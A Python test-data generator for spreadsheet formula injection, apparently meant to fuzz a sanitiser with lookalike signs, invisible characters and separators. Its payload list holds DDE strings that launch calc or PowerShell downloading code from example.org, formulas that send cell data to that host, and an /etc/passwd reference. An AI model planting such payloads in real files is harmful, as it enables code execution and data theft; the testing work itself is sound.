# ruff: noqa: RUF001, E501, S311 - signs that look like others are what this is about; chance here hides no secret
"""Texts that want to run: formulas, commands and links, behind blanks, quotes, separators and what cannot be seen."""

from __future__ import annotations

import random

FIRST = ["=", "+", "-", "@", "%", "|", "＝", "＋", "－", "＠", "\u2212", "﹦", "⁺", "⩵"]
SKIPPED = [" ", "  ", "\u00a0", "\u3000", '"', "'", "''", "\ufeff", "\u200b", "\u200e", "\u2066", "\u00ad", "\x00", "\x07", "“", "\x7f", "\ufe0f"]  # fmt: skip
BETWEEN = [",", ";", "\t", "|", "\r", "\n", "\r\n", "\v", "\u2028", "\u0085"]
PAYLOADS = [
    "1+1", "1", "SUM(A1:A9)", "cmd|' /C calc'!A0", "cmd|'/C powershell IEX(wget http://example.org/x)'!A0",
    'HYPERLINK("http://example.org?leak="&A1,"Click")', 'WEBSERVICE("http://example.org/"&A1)',
    'DDE("cmd";"/C calc";"!A0")', 'IMPORTXML(CONCAT("http://example.org?v=",A1:E1),"//a")', "A1", "2+5+cmd|' /C calc'!A0",
    'IMAGE("http://example.org/x.png")', "rundll32|'URL.dll,OpenURL calc.exe'!A", "'file:///etc/passwd'#$passwd.A1",
    "_xlfn.FILTERXML(A1,A2)", 'EXEC("calc")', "1-1", "0x10", "INDIRECT(ADDRESS(1,1))", "{1,2}",
]  # fmt: skip
PLAIN = [
    "", "Müller & Söhne", "홍길동", "O'Neill", "00123", "12345678901234567890", "1e5", "1/2", "TRUE", "null", "NaN", "#N/A",
    "2020-01-01", "a" * 300, "<r><t>=1+1</t></r>", "<f>1+1</f>", "_x003D_1+1", "_x005F_x0041_", "http://example.org",
    "mailto:a@example.org", "😀", "\x01\x02", "\x1b", "\ufffe", "\uffff", "Nr. 5 - 7; Haus =B=", "ID", "a\\b", '"quoted"', "]]>",
    "&#61;1", "[red]1", "𝒜", "e\u0301", "''", "'", "'text", "' =", "5 %", "-5", "+49 170 1234567", "@home", "=", "==", "\t", "\r\n", "|",
]  # fmt: skip


def texts(count: int, seed: int = 7) -> list[str]:
    """So many texts: every plain one, and then what the grammar makes."""
    chance = random.Random(seed)
    return [*PLAIN, *(_text(chance) for _ in range(count - len(PLAIN)))]


def _text(chance: random.Random) -> str:
    parts = []
    for _ in range(chance.choice([1, 1, 1, 2, 3])):
        if parts or chance.random() < 0.3:
            parts.append(chance.choice(["", "x", "Straße 5", "it's", "1"]) + chance.choice(BETWEEN))
        parts.append("".join(chance.choices(SKIPPED, k=chance.choice([0, 0, 1, 1, 2, 3]))))
        parts.append("".join(chance.choices(FIRST, k=chance.choice([1, 1, 2]))) + chance.choice(PAYLOADS))
    return "".join(parts)
